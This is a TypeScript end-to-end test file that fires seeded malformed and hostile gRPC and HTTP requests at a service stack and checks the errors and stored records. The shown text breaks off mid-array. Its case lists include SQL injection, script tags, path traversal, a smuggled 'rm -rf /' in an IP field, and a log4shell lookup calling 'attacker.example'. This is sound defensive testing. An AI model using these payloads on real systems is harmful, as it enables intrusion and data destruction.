/**
 * Hostile input, end to end: about 1,750 generated malformed or hostile requests against the
 * public endpoints of the real services (gRPC, ingest's HTTP API and every service's ops port;
 * built `dist/`, run as child processes on a private Kafka and Redis), each of which must get a
 * clean error. Afterwards every process must still be alive,
 * healthy, ready and serving; in-flight work, the risk decision log and file descriptors must
 * drain; memory must not run away; and `access-events` must hold exactly the events callers were
 * told were stored (count, ids, and for hostile-but-valid events, content), nothing else.
 *
 * Build first (`npx tsc -b tsconfig.build.json`). Inputs come from a seeded PRNG, so a failure
 * reproduces with the same seed; HOSTILE_SEED=<n> explores other inputs, and HOSTILE_ONLY=<regex>
 * (matched against "category name") replays a subset.
 *
 * Every request is a test of its own, named "<category> <case>" (one describe per category), and
 * so is every check made afterwards. The requests are not sent from their tests, though: they go
 * out first, all together, CONCURRENCY in flight and the categories shuffled, as a real client mix
 * would; that load is what the checks afterwards (drain, descriptors, memory) are about. Each
 * test then judges what its request got. (`jest -t` only narrows what is reported; HOSTILE_ONLY
 * narrows what is sent.) The runner and the judges are in support/hostile-run.ts, the topic
 * read-back in support/topic-readback.ts; the cases, and what they expect, are here.
 *
 * What counts as a clean answer (decided after watching what the stack does):
 * - gRPC: a status from the case's expected set, never DEADLINE_EXCEEDED (every call has a
 *   deadline; reaching it means the server never answered). Service-level errors carry a
 *   `vigil-error-code` trailer and no stack trace. Bytes that are not a valid message of the
 *   method's type (malformed protobuf, invalid UTF-8 in a string) get INVALID_ARGUMENT with
 *   `vigil-error-code: MALFORMED_REQUEST` (the services decode inside the handler, runtime
 *   grpc-decode.ts), or UNAUTHENTICATED when the caller's credentials are not good for the method:
 *   authentication comes first. Whether raw bytes are undecodable is decided per request by running
 *   the method's own deserializer locally, so decodable garbage must get a real service answer.
 *   INTERNAL is accepted in one form only, produced by the transport before any Vigil code runs:
 *   "Received RST_STREAM with code N" for a header block beyond the HTTP/2 limits. A message over
 *   the server's receive limit gets grpc-js's RESOURCE_EXHAUSTED. Two `authorization` values get
 *   UNAUTHENTICATED with `vigil-error-code: CONFLICTING_CREDENTIALS` (sent by a child process:
 *   Node's HTTP/2 client will not send them).
 * - HTTP: the expected status with a JSON body `{error: {code, message}}` (401 with
 *   WWW-Authenticate, 405 with Allow). Malformed HTTP framing (bad chunk sizes, Content-Length
 *   together with Transfer-Encoding, oversized header blocks, non-HTTP bytes) is answered by
 *   Node's HTTP parser itself, before the service sees a request, with a bare 400/431 and a close;
 *   that is accepted for those cases only. A body over the limit must get 413; a client that keeps
 *   writing after the 413 may instead see the connection closed under it (EPIPE/ECONNRESET),
 *   because the server closes after answering; accepted for the fully-sent oversized bodies only.
 * - Hostile but valid requests (injection strings, control characters where the schema allows
 *   them, Object.prototype names as attribute keys) must be stored, and the record read back from
 *   Kafka must hold exactly what was sent; those the shared input rules refuse (@vigil/input: bidi
 *   controls in a user id, a `..` resource, `%` in an action) must get INVALID_ARGUMENT.
 *
 * Memory: RSS may grow by up to 150 MiB per service over the barrage. V8 collects lazily and a
 * few requests carry megabytes, so this catches a runaway, not a slow leak.
 */
import * as fs from 'node:fs';
import { timestampFromMillis, vigil } from '@vigil/proto';
import { parseAction, parseUserId } from '@vigil/input';
import { grpcDoorCases, httpDoorCases, type DoorKit } from './support/door-cases';
import { waitFor } from '../support/infra';
import { E2EStack, type ServiceName } from '../support/stack';
import {
  grpc,
  lenField,
  metricValue,
  Rng,
  scrapeMetrics,
  tag,
  varint,
  WIRE,
  type HttpRequestSpec,
} from './support/hostile-kit';
import {
  clip,
  CONCURRENCY,
  METHOD_NAMES,
  METHODS,
  runCase,
  runPool,
  summarize,
  type CaseResult,
  type GrpcCase,
  type GrpcExpect,
  type HostileCase,
  type HttpCase,
  type HttpExpect,
  type MethodName,
  type Service,
  type Targets,
} from './support/hostile-run';
import { checkTopicHoldsExactly, topicHighWatermarks } from './support/topic-readback';

const SEED = Number(process.env.HOSTILE_SEED ?? 20_261_126);
/** Runs only the cases whose "category name" matches (to reproduce one failure). */
const ONLY = process.env.HOSTILE_ONLY ? new RegExp(process.env.HOSTILE_ONLY) : undefined;
const MIN_REQUESTS = 1_000;
const MAX_RSS_GROWTH_BYTES = 150 * 1024 * 1024;
/** Descriptors a service may hold on to after the barrage (Kafka/Redis reconnects, timers). */
const MAX_FD_GROWTH = 20;
const EVENTS_TOPIC = 'access-events';
/** Admin actions are recorded on their own topic, which only risk may write (issue #10). */
const ADMIN_TOPIC = 'risk-admin';
/** The source ingest stamps on what the stack's ingest token sends (test/support/stack.ts). */
const INGEST_SOURCE = 'loadgen';
const SERVICES: readonly ServiceName[] = ['ingest', 'risk', 'sealer'];

/** Ingest's gRPC receive limit with default settings: ceil(1 MiB * 1.25) + 64 KiB. */
const INGEST_MAX_RECEIVE = Math.ceil(1024 * 1024 * 1.25) + 64 * 1024;
/** Risk keeps grpc-js's default of 4 MiB. */
const RISK_MAX_RECEIVE = 4 * 1024 * 1024;
/** Ingest's HTTP body limit with default settings: 4 x INGEST_MAX_BATCH_BYTES. */
const HTTP_MAX_BODY = 4 * 1024 * 1024;

const S = grpc.status;

type EventInput = vigil.v1.AccessEvent.$Properties;
type Json = Record<string, unknown>;

// ---- shared generators ----------------------------------------------------------------------

interface Tokens {
  ingest: string;
  authz: string;
  admin: string;
}

const bearer = (token: string) => `Bearer ${token}`;
const nowSeconds = () => Math.floor(Date.now() / 1000);
const DAY = 86_400;
const CONTROL_CHARS = [
  '\u0000',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\r',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u009b',
];
/** Stands for a JSON number literal JSON.stringify cannot write (1e999 parses as Infinity). */
const INFINITY_SENTINEL = 987654321.123456;

function withControl(rng: Rng, text: string): string {
  const at = rng.int(0, text.length);
  return text.slice(0, at) + rng.pick(CONTROL_CHARS) + text.slice(at);
}

const actorOf = (e: EventInput): vigil.v1.Actor.$Properties => (e.actor ??= {});
const geoOf = (e: EventInput): vigil.v1.Geo.$Properties => (actorOf(e).geo ??= {});
const attrsOf = (e: EventInput): Record<string, string> => (e.attributes ??= {});

function jsonObject(parent: Json, key: string): Json {
  const value = parent[key];
  if (typeof value === 'object' && value !== null && !Array.isArray(value)) return value as Json;
  const created: Json = {};
  parent[key] = created;
  return created;
}

/** Sets an own property, even "__proto__" (plain assignment would set the prototype instead). */
function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  });
}

function manyAttributes(count: number, keyLength = 4, valueLength = 1): Record<string, string> {
  const out: Record<string, string> = {};
  for (let i = 0; i < count; i++) {
    out[`k${String(i).padStart(keyLength - 1, '0')}`] = 'v'.repeat(valueLength);
  }
  return out;
}

/** An event ingest accepts as it is. */
function validEvent(rng: Rng, eventId: string): EventInput {
  return {
    eventId,
    // Up to half of ingest's one-hour window: cases are built before the barrage, which takes
    // tens of seconds on a loaded runner, and an event near the edge would age out meanwhile.
    occurredAt: { seconds: nowSeconds() - rng.int(0, 1_800), nanos: rng.int(0, 999_999_999) },
    tenantId: 'tenant-e2e',
    actor: {
      userId: `hostile-user-${rng.int(0, 40)}`,
      sessionId: `s-${rng.int(0, 999)}`,
      deviceId: `d-${rng.int(0, 9)}`,
      ip: rng.pick(['203.0.113.7', '2001:db8::1', '198.51.100.23']),
      userAgent: 'Mozilla/5.0 (X11; Linux x86_64)',
      geo: {
        countryCode: rng.pick(['DE', 'US', 'JP']),
        latitude: rng.int(-89, 89) + 0.5,
        longitude: rng.int(-179, 179) + 0.25,
        hasPosition: true,
      },
    },
    action: rng.pick(['auth.login', 'db.query', 'k8s.exec']),
    resource: rng.pick(['app/console', 'db/prod-payments', 'cluster/prod']),
    outcome: rng.int(0, 3),
    attributes: { mfa: 'totp', region: 'eu-1' },
  };
}

const encodeEvent = (e: EventInput) => Buffer.from(vigil.v1.AccessEvent.encode(e).finish());
const encodeBatch = (events: EventInput[]) =>
  Buffer.from(vigil.v1.PublishBatchRequest.encode({ events }).finish());
const encodeAuthorize = (r: vigil.v1.AuthorizeRequest.$Properties) =>
  Buffer.from(vigil.v1.AuthorizeRequest.encode(r).finish());
const encodeProfile = (userId: string) =>
  Buffer.from(vigil.v1.GetRiskProfileRequest.encode({ userId }).finish());
const encodeClear = (r: vigil.v1.ClearRestrictionRequest.$Properties) =>
  Buffer.from(vigil.v1.ClearRestrictionRequest.encode(r).finish());
const encodeRestrict = (r: vigil.v1.RestrictUserRequest.$Properties) =>
  Buffer.from(vigil.v1.RestrictUserRequest.encode(r).finish());

function rfc3339(ts: { seconds?: number | null; nanos?: number | null }): string {
  const iso = new Date(Number(ts.seconds ?? 0) * 1000).toISOString();
  return `${iso.slice(0, 19)}.${String(ts.nanos ?? 0).padStart(9, '0')}Z`;
}

/** The proto3 JSON form ingest's HTTP endpoint takes (copies what a JSON mutation may touch). */
function toJson(e: EventInput): Json {
  const actor = e.actor
    ? { ...e.actor, geo: e.actor.geo ? { ...e.actor.geo } : e.actor.geo }
    : e.actor;
  return { ...e, actor, occurredAt: e.occurredAt ? rfc3339(e.occurredAt) : undefined };
}

const jsonText = (value: unknown) =>
  JSON.stringify(value).replaceAll(String(INFINITY_SENTINEL), '1e999');

function validAuthorize(rng: Rng): vigil.v1.AuthorizeRequest.$Properties {
  return {
    userId: `hostile-authz-${rng.int(0, 20)}`,
    action: 'db.query',
    resource: rng.pick(['app/console', 'db/prod-payments']),
    tenantId: 'tenant-e2e',
    context: {
      ip: '203.0.113.9',
      deviceId: 'd-1',
      sessionId: 's-1',
      userAgent: 'Mozilla/5.0',
      geo: { countryCode: 'DE', latitude: 52.5, longitude: 13.4, hasPosition: true },
    },
  };
}

/**
 * One guaranteed validation failure each. `proto` mutates the event before encoding (gRPC, and
 * HTTP unless `json` is given or it is `grpcOnly`); `json` mutates the JSON form.
 */
interface Violation {
  name: string;
  proto?: (e: EventInput, rng: Rng) => void;
  json?: (j: Json, rng: Rng) => void;
  grpcOnly?: boolean;
}

const VIOLATIONS: readonly Violation[] = [
  {
    name: 'latitude/longitude out of range',
    proto: (e, r) => {
      if (r.chance(0.5)) geoOf(e).latitude = r.pick([90.000001, -90.5, 1000, -1e308]);
      else geoOf(e).longitude = r.pick([180.5, -181, 1e308]);
    },
  },
  {
    name: 'position not finite',
    proto: (e, r) => {
      const value = r.pick([NaN, Infinity, -Infinity]);
      if (r.chance(0.5)) geoOf(e).latitude = value;
      else geoOf(e).longitude = value;
    },
    json: (j) => {
      jsonObject(jsonObject(j, 'actor'), 'geo').latitude = INFINITY_SENTINEL;
    },
  },
  { name: 'occurred_at missing', proto: (e) => void delete e.occurredAt },
  {
    name: 'occurred_at too far in the past',
    proto: (e, r) => void (e.occurredAt = { seconds: nowSeconds() - r.int(2, 3_650) * DAY }),
  },
  {
    name: 'occurred_at too far in the future',
    proto: (e, r) => void (e.occurredAt = { seconds: nowSeconds() + r.int(1, 3_650) * DAY }),
  },
  {
    name: 'occurred_at out of range or not RFC 3339',
    proto: (e, r) =>
      void (e.occurredAt = {
        seconds: r.pick([-9e15, 9e15, Number.MAX_SAFE_INTEGER, -62_135_596_801_000]),
      }),
    json: (j, r) => {
      j.occurredAt = r.pick<unknown>([
        '2026-02-30T00:00:00Z',
        '2026-13-01T00:00:00Z',
        '2026-01-01T24:00:00Z',
        '2026-01-01',
        'yesterday',
        '',
        '0000-00-00T00:00:00Z',
        '2026-01-01T00:00:00+25:00',
        '\uff12026-01-01T00:00:00Z',
        '+275760-09-13T00:00:00Z',
        '2026-01-01T00:00:00.1234567890Z',
        1_700_000_000,
        { seconds: 1 },
        ['2026-01-01T00:00:00Z'],
        true,
      ]);
    },
  },
  {
    name: 'nanos out of range',
    grpcOnly: true,
    proto: (e, r) =>
      void (e.occurredAt = {
        seconds: nowSeconds(),
        nanos: r.pick([-1, 1_000_000_000, 2_147_483_647]),
      }),
  },
  { name: 'actor missing', proto: (e) => void delete e.actor },
  { name: 'user_id empty', proto: (e) => void (actorOf(e).userId = '') },
  {
    name: 'user_id with a control character',
    proto: (e, r) => void (actorOf(e).userId = withControl(r, 'alice')),
  },
  {
    name: 'user_id too long',
    proto: (e, r) =>
      void (actorOf(e).userId = r.pick([
        'é'.repeat(129),
        'x'.repeat(257),
        'x'.repeat(r.int(1_000, 100_000)),
      ])),
  },
  { name: 'action missing', proto: (e) => void delete e.action },
  {
    name: 'action with a control character',
    proto: (e, r) => void (e.action = withControl(r, 'auth.login')),
  },
  { name: 'action too long', proto: (e, r) => void (e.action = 'a'.repeat(r.int(129, 10_000))) },
  {
    name: 'event_id malformed',
    proto: (e, r) =>
      void (e.eventId = r.pick([
        ' ',
        'a b',
        '../etc/passwd',
        "'; DROP TABLE events; --",
        '<script>x</script>',
        'é',
        'id\u0000',
        'id/1',
        '%00',
        '{x}',
        'id\n',
      ])),
  },
  { name: 'event_id too long', proto: (e, r) => void (e.eventId = 'e'.repeat(r.int(129, 5_000))) },
  {
    name: 'ip not an address',
    proto: (e, r) =>
      void (actorOf(e).ip = r.pick([
        '999.1.1.1',
        'not-an-ip',
        '1.2.3.4; rm -rf /',
        '::g',
        "' OR 1=1 --",
        '1.2.3',
        '127.0.0.1 ',
        '[::1]',
        '1.2.3.4/24',
        'localhost',
        '<img src=x>',
      ])),
  },
  {
    name: 'country code malformed',
    proto: (e, r) =>
      void (geoOf(e).countryCode = r.pick(['D1', 'DEU', 'D', '1A', '<s>', 'D\u0000', 'ÄÖ', 'XX '])),
  },
  {
    name: 'outcome unknown',
    proto: (e, r) => void (e.outcome = r.pick([4, 99, 2_147_483_647, -1]) as vigil.v1.Outcome),
    json: (j, r) =>
      void (j.outcome = r.pick<unknown>([4, 99, -1, 1.5, 'MAYBE', 'OUTCOME_', true, {}, []])),
  },
  {
    name: 'too many attributes',
    proto: (e, r) => void (e.attributes = manyAttributes(r.pick([65, 100, 10_000]))),
  },
  { name: 'attribute key empty', proto: (e) => void (attrsOf(e)[''] = 'v') },
  {
    name: 'attribute key too long',
    proto: (e, r) => void (attrsOf(e)['k'.repeat(r.int(129, 2_000))] = 'v'),
  },
  {
    name: 'attribute key with a control character',
    proto: (e, r) => void (attrsOf(e)[withControl(r, 'key')] = 'v'),
  },
  {
    name: 'attribute value too long',
    proto: (e, r) => void (attrsOf(e).big = 'v'.repeat(r.int(1_025, 20_000))),
  },
  {
    name: 'tenant_id malformed',
    proto: (e, r) =>
      void (e.tenantId = r.chance(0.5) ? withControl(r, 'tenant') : 't'.repeat(r.int(129, 4_000))),
  },
  {
    name: 'resource malformed',
    proto: (e, r) =>
      void (e.resource = r.chance(0.5)
        ? withControl(r, 'db/prod')
        : 'r'.repeat(r.int(1_025, 50_000))),
  },
  {
    name: 'session or device id malformed',
    proto: (e, r) => {
      const value = r.chance(0.5) ? withControl(r, 'sess') : 's'.repeat(r.int(257, 5_000));
      if (r.chance(0.5)) actorOf(e).sessionId = value;
      else actorOf(e).deviceId = value;
    },
  },
  {
    name: 'user_agent too long',
    proto: (e, r) => void (actorOf(e).userAgent = 'U'.repeat(r.int(1_025, 100_000))),
  },
  {
    // 64 attributes within every per-field limit, ~71 KB encoded: over the 64 KiB per event.
    name: 'event encodes beyond the per-event limit',
    proto: (e) => void (e.attributes = manyAttributes(64, 100, 1_000)),
  },
];

/**
 * Hostile values the schema allows: stored verbatim. Those marked `refused` are refused by the
 * shared input rules (@vigil/input) since issue #11, and must get INVALID_ARGUMENT.
 */
const HOSTILE_BUT_VALID: ReadonlyArray<{
  name: string;
  change: (e: EventInput) => void;
  refused?: true;
}> = [
  {
    name: 'SQL injection in resource',
    change: (e) => void (e.resource = "db/prod'; DROP TABLE access_events; --"),
  },
  {
    name: 'SQL injection in user_id',
    change: (e) => void (actorOf(e).userId = "robert'); DROP TABLE students;--"),
  },
  {
    name: 'script tag in resource',
    change: (e) => void (e.resource = '<script>alert(document.cookie)</script>'),
  },
  {
    name: 'path traversal in resource',
    change: (e) => void (e.resource = '../../../../etc/passwd'),
    // ".." segments are not canonical: refused rather than matched to a lower sensitivity.
    refused: true,
  },
  {
    name: 'format string in action',
    change: (e) => void (e.action = 'auth.login%n%s%x%d'),
    // Actions are words of [a-z0-9] joined by . _ : -
    refused: true,
  },
  { name: 'NoSQL operator in tenant_id', change: (e) => void (e.tenantId = '{"$gt": ""}') },
  {
    name: 'Redis hash-tag and glob characters in user_id',
    change: (e) => void (actorOf(e).userId = '{alice}%2F*?[x]'),
  },
  {
    name: 'bidi override and Arabic in user_id',
    change: (e) => void (actorOf(e).userId = 'admin\u202e\u0645\u0627'),
    // A bidi control reorders what a reviewer sees: refused in every identifier.
    refused: true,
  },
  {
    name: 'CRLF in user_agent',
    change: (e) => void (actorOf(e).userAgent = 'curl/8.0\r\nX-Injected: 1'),
  },
  {
    name: 'log4shell, NUL, ANSI, CRLF and SQL in attribute values',
    change: (e) =>
      void (e.attributes = {
        jndi: '${jndi:ldap://attacker.example/a}',
        nul: 'a\u0000b',
        ansi: '\u001b[2J\u001b[31mred',
        crlf: 'line1\r\nline2',
        query: "SELECT * FROM users WHERE name = '' OR '1'='1'",
        json: '{"__proto__":{"isAdmin":true}}',
      }),
  },
  {
    name: 'Object.prototype names as attribute keys',
    change: (e) =>
      void (e.attributes = { constructor: 'c', toString: 't', hasOwnProperty: 'h', valueOf: 'v' }),
  },
  {
    name: 'attribute key "__proto__"',
    change: (e) => {
      const attributes: Record<string, string> = {};
      setOwn(attributes, '__proto__', 'polluted');
      attributes.other = 'kept';
      e.attributes = attributes;
    },
  },
];

// ---- gRPC case generators -------------------------------------------------------------------

/**
 * Undecodable bytes get MALFORMED_REQUEST, after authentication: with credentials that are not
 * good for the method (the mutating admin calls get a non-admin token), UNAUTHENTICATED.
 */
function deserializeExpect(method: MethodName, whenDecodable: readonly number[]) {
  return (payload: Buffer): GrpcExpect => {
    try {
      METHODS[method].requestDeserialize(payload);
    } catch {
      return whenDecodable.includes(S.UNAUTHENTICATED) && !whenDecodable.includes(S.OK)
        ? { codes: [S.UNAUTHENTICATED], vigilCode: 'UNAUTHENTICATED' }
        : { codes: [S.INVALID_ARGUMENT], vigilCode: 'MALFORMED_REQUEST' };
    }
    return { codes: whenDecodable };
  };
}

/** How each method is called with garbage, and what a decodable garbage message may get. */
function garbageTarget(method: MethodName, t: Tokens): { auth: string; codes: readonly number[] } {
  switch (method) {
    case 'publish':
    case 'publishBatch':
      return { auth: bearer(t.ingest), codes: [S.INVALID_ARGUMENT] };
    case 'authorize':
      return { auth: bearer(t.authz), codes: [S.OK, S.INVALID_ARGUMENT] };
    case 'profile':
      return { auth: bearer(t.admin), codes: [S.OK, S.INVALID_ARGUMENT] };
    default:
      // The mutating admin calls get garbage with a non-admin token: decodable garbage must be
      // refused as unauthenticated, never acted upon.
      return { auth: bearer(t.authz), codes: [S.UNAUTHENTICATED] };
  }
}

/** A valid-looking encoding to mutate (for ingest: an invalid event, so no mutant is stored). */
function mutationBase(method: MethodName, rng: Rng, id: string): Buffer {
  const invalid = (): EventInput => {
    const e = validEvent(rng, `${id} has spaces`);
    delete e.action;
    return e;
  };
  switch (method) {
    case 'publish':
      return encodeEvent(invalid());
    case 'publishBatch':
      return encodeBatch([invalid(), invalid()]);
    case 'authorize':
      return encodeAuthorize(validAuthorize(rng));
    case 'profile':
      return encodeProfile(`hostile-authz-${rng.int(0, 20)}`);
    case 'clear':
      return encodeClear({ userId: 'hostile-garbage', reviewer: 'rev', reason: 'why' });
    case 'restrict':
      return encodeRestrict({
        userId: 'hostile-garbage',
        reviewer: 'rev',
        reason: 'why',
        ttlSeconds: 60,
      });
  }
}

/** Field-number paths of string fields, per request type (nested messages wrap outward). */
const STRING_FIELDS: Record<MethodName, readonly number[][]> = {
  publish: [
    [1],
    [4],
    [5, 1],
    [5, 2],
    [5, 3],
    [5, 4],
    [5, 5],
    [5, 6, 1],
    [6],
    [7],
    [9],
    [10, 1],
    [10, 2],
  ],
  publishBatch: [
    [1, 1],
    [1, 5, 1],
    [1, 6],
    [1, 10, 1],
    [1, 10, 2],
  ],
  authorize: [[1], [2], [3], [5], [4, 1], [4, 2], [4, 3], [4, 5], [4, 4, 1]],
  profile: [[1]],
  clear: [[1], [2], [3]],
  restrict: [[1], [2], [3]],
};

const BAD_UTF8: readonly number[][] = [
  [0xff],
  [0xfe, 0xff],
  [0xc0, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xe2, 0x82],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0x80],
  [0xf4, 0x90, 0x80, 0x80],
];

function nested(path: readonly number[], leaf: Buffer): Buffer {
  return path.reduceRight((inner, field) => lenField(field, inner), leaf);
}

const MUTATIONS: ReadonlyArray<{
  name: string;
  apply: (base: Buffer, m: MethodName, r: Rng) => Buffer;
}> = [
  { name: 'truncated', apply: (b, _m, r) => b.subarray(0, r.int(1, Math.max(1, b.length - 1))) },
  {
    name: 'bit flips',
    apply: (b, _m, r) => {
      const out = Buffer.from(b);
      for (let i = r.int(1, 8); i > 0; i--) {
        const at = r.int(0, out.length - 1);
        out[at] = (out[at] as number) ^ (1 << r.int(0, 7));
      }
      return out;
    },
  },
  { name: 'unterminated varint tag', apply: (b) => Buffer.concat([b, Buffer.alloc(11, 0x80)]) },
  {
    name: 'over-long varint value',
    apply: (b, _m, r) => Buffer.concat([b, tag(r.int(1, 12), WIRE.VARINT), Buffer.alloc(11, 0xff)]),
  },
  {
    name: 'huge length prefix',
    apply: (b, _m, r) =>
      Buffer.concat([
        b,
        tag(r.int(1, 12), WIRE.LEN),
        varint(r.pick([0xffffffff, 2 ** 31, 2 ** 28, 1_000_000, -1])),
        r.bytes(r.int(0, 16)),
      ]),
  },
  {
    name: 'wrong wire type on a known field',
    apply: (b, _m, r) => {
      const wire = r.pick([
        WIRE.VARINT,
        WIRE.I64,
        WIRE.I32,
        WIRE.LEN,
        WIRE.START_GROUP,
        WIRE.END_GROUP,
      ]);
      const body =
        wire === WIRE.VARINT
          ? varint(r.int(0, 2 ** 31))
          : wire === WIRE.I64
            ? r.bytes(8)
            : wire === WIRE.I32
              ? r.bytes(4)
              : wire === WIRE.LEN
                ? Buffer.concat([varint(3), r.bytes(3)])
                : Buffer.alloc(0);
      return Buffer.concat([b, tag(r.int(1, 10), wire), body]);
    },
  },
  {
    name: 'deeply nested groups',
    apply: (b, _m, r) =>
      Buffer.concat([b, Buffer.alloc(r.int(1_000, 300_000), r.pick([0x0b, 0x7b, 0x13]))]),
  },
  {
    name: 'field number 0 or beyond 2^29',
    apply: (b, _m, r) =>
      Buffer.concat([
        r.chance(0.5) ? tag(0, r.pick([0, 2])) : tag(2n ** 29n + BigInt(r.int(0, 9)), 0),
        varint(1),
        b,
      ]),
  },
  {
    name: 'invalid UTF-8 in a string field',
    apply: (b, m, r) => {
      const bad = Buffer.concat([
        Buffer.from('ok'),
        Buffer.from(r.pick(BAD_UTF8)),
        Buffer.from('x'),
      ]);
      const path = r.pick(STRING_FIELDS[m]);
      return Buffer.concat([
        b,
        nested(path.slice(0, -1), lenField(path[path.length - 1] as number, bad)),
      ]);
    },
  },
  { name: 'message repeated', apply: (b) => Buffer.concat([b, b]) },
  { name: 'random tail', apply: (b, _m, r) => Buffer.concat([b, r.bytes(r.int(1, 64))]) },
  {
    name: 'garbage inside a nested message',
    apply: (b, m, r) =>
      Buffer.concat([
        b,
        lenField(
          m === 'publish' ? r.pick([2, 5]) : m === 'authorize' ? 4 : 1,
          r.bytes(r.int(1, 48)),
        ),
      ]),
  },
];

function grpcGarbageCases(rng: Rng, t: Tokens): GrpcCase[] {
  const cases: GrpcCase[] = [];
  const randomCounts: Record<MethodName, number> = {
    publish: 70,
    publishBatch: 70,
    authorize: 60,
    profile: 40,
    clear: 30,
    restrict: 30,
  };
  for (const method of METHOD_NAMES) {
    const target = garbageTarget(method, t);
    for (let i = 0; i < randomCounts[method]; i++) {
      const roll = rng.next();
      const length =
        roll < 0.7 ? rng.int(1, 64) : roll < 0.95 ? rng.int(65, 2_048) : rng.int(2_049, 65_536);
      const bytes = rng.bytes(length);
      cases.push({
        kind: 'grpc',
        category: 'grpc random bytes',
        name: `${method} ${length} random bytes #${i}`,
        method,
        auth: target.auth,
        payload: () => bytes,
        expect: deserializeExpect(method, target.codes),
      });
    }
    for (let i = 0; i < 50; i++) {
      const mutation = rng.pick(MUTATIONS);
      const payload = mutation.apply(
        mutationBase(method, rng, `garbage-${method}-${i}`),
        method,
        rng,
      );
      cases.push({
        kind: 'grpc',
        category: 'grpc malformed protobuf',
        name: `${method} ${mutation.name} #${i}`,
        method,
        auth: target.auth,
        payload: () => payload,
        expect: deserializeExpect(method, target.codes),
      });
    }
  }
  return cases;
}

function grpcIngestValueCases(rng: Rng, t: Tokens): GrpcCase[] {
  const cases: GrpcCase[] = [];
  const auth = bearer(t.ingest);
  const invalid = { codes: [S.INVALID_ARGUMENT] };
  const usable = VIOLATIONS.filter((v) => v.proto);
  for (let i = 0; i < 110; i++) {
    const violation = rng.pick(usable);
    const event = validEvent(rng, `hostile-grpc-value-${i}`);
    violation.proto?.(event, rng);
    cases.push({
      kind: 'grpc',
      category: 'grpc invalid values (ingest)',
      name: `Publish: ${violation.name} #${i}`,
      method: 'publish',
      auth,
      payload: () => encodeEvent(event),
      expect: invalid,
    });
  }
  for (let i = 0; i < 40; i++) {
    const events = Array.from({ length: rng.int(2, 12) }, (_, k) =>
      validEvent(rng, `hostile-grpc-batch-${i}-${k}`),
    );
    let name: string;
    if (i % 8 === 0) {
      const k = rng.int(1, events.length - 1);
      (events[k] as EventInput).eventId = (events[0] as EventInput).eventId;
      name = `duplicate event id in a batch of ${events.length}`;
    } else {
      const violation = rng.pick(usable);
      violation.proto?.(events[rng.int(0, events.length - 1)] as EventInput, rng);
      name = `${violation.name} in one event of ${events.length}`;
    }
    cases.push({
      kind: 'grpc',
      category: 'grpc invalid values (ingest)',
      name: `PublishBatch: ${name} #${i}`,
      method: 'publishBatch',
      auth,
      payload: () => encodeBatch(events),
      expect: invalid,
    });
  }
  const [r1001, rMib] = [rng.fork(), rng.fork()];
  const specials: Array<[string, MethodName, () => Buffer]> = [
    ['Publish: empty message', 'publish', () => Buffer.alloc(0)],
    ['PublishBatch: no events', 'publishBatch', () => Buffer.alloc(0)],
    [
      'PublishBatch: 1,001 events',
      'publishBatch',
      () =>
        encodeBatch(
          Array.from({ length: 1_001 }, (_, k) => validEvent(r1001, `hostile-1001-${k}`)),
        ),
    ],
    [
      'PublishBatch: 20 valid events over 1 MiB in total',
      'publishBatch',
      () =>
        encodeBatch(
          Array.from({ length: 20 }, (_, k) => ({
            ...validEvent(rMib, `hostile-mib-${k}`),
            attributes: manyAttributes(50, 100, 1_000),
          })),
        ),
    ],
  ];
  for (const [name, method, payload] of specials) {
    cases.push({
      kind: 'grpc',
      category: 'grpc invalid values (ingest)',
      name,
      method,
      auth,
      payload,
      expect: invalid,
    });
  }
  return cases;
}

function grpcRiskValueCases(rng: Rng, t: Tokens): GrpcCase[] {
  const cases: GrpcCase[] = [];
  const category = 'grpc invalid values (risk)';
  const invalid = { codes: [S.INVALID_ARGUMENT] };
  const either = { codes: [S.OK, S.INVALID_ARGUMENT] };
  type AuthorizeMutation = [string, (r: vigil.v1.AuthorizeRequest.$Properties) => void, GrpcExpect];
  const hostileText = [
    "' OR '1'='1",
    '<script>alert(1)</script>',
    '${jndi:ldap://x/a}',
    '{user}',
    '%00%ff',
    '../../etc/passwd',
    '\u202e\u0645',
    'a\u0000b',
    '\r\n\t',
  ];
  const mutations: AuthorizeMutation[] = [
    ['user_id missing', (r) => void delete r.userId, invalid],
    ['user_id empty', (r) => void (r.userId = ''), invalid],
    // The shared limit (@vigil/input): 256 bytes, as at ingest.
    ['user_id too long', (r) => void (r.userId = 'u'.repeat(rng.int(257, 100_000))), invalid],
    ['resource missing', (r) => void delete r.resource, invalid],
    ['resource too long', (r) => void (r.resource = 'r'.repeat(rng.int(1_025, 100_000))), invalid],
    ['hostile user_id', (r) => void (r.userId = rng.pick(hostileText)), either],
    ['hostile resource', (r) => void (r.resource = rng.pick(hostileText)), either],
    ['hostile action', (r) => void (r.action = rng.pick(hostileText)), either],
    [
      'long action and tenant',
      (r) => void ((r.action = 'a'.repeat(5_000)), (r.tenantId = 't'.repeat(5_000))),
      invalid,
    ],
    [
      'position not finite or out of range',
      (r) =>
        void (r.context = {
          geo: {
            latitude: rng.pick([NaN, Infinity, 91, -1e308]),
            longitude: rng.pick([-Infinity, 181, NaN]),
            hasPosition: true,
          },
        }),
      invalid,
    ],
    [
      'ip not an address',
      (r) => void (r.context = { ip: rng.pick(['999.1.1.1', "' OR 1=1", '::g', 'fe80::1%eth0']) }),
      invalid,
    ],
    [
      'country code garbage',
      (r) => void (r.context = { geo: { countryCode: rng.pick(hostileText) } }),
      invalid,
    ],
    [
      'device id with control characters',
      (r) => void (r.context = { deviceId: withControl(rng, 'dev') }),
      invalid,
    ],
  ];
  for (let i = 0; i < 60; i++) {
    const [name, mutate, expect] = rng.pick(mutations);
    const request = validAuthorize(rng);
    mutate(request);
    cases.push({
      kind: 'grpc',
      category,
      name: `Authorize: ${name} #${i}`,
      method: 'authorize',
      auth: bearer(t.authz),
      payload: () => encodeAuthorize(request),
      expect,
    });
  }
  // Issue #11: one definition per input (@vigil/input). Each value below was answered as a
  // decision (often ALLOW, for a user or resource nobody meant) before; now INVALID_ARGUMENT.
  const authorizeRefusals: Array<[string, (r: vigil.v1.AuthorizeRequest.$Properties) => void]> = [
    ...[NaN, Infinity, -Infinity, 1000, -2000, 90.000001].map(
      (latitude): [string, (r: vigil.v1.AuthorizeRequest.$Properties) => void] => [
        `latitude ${latitude}`,
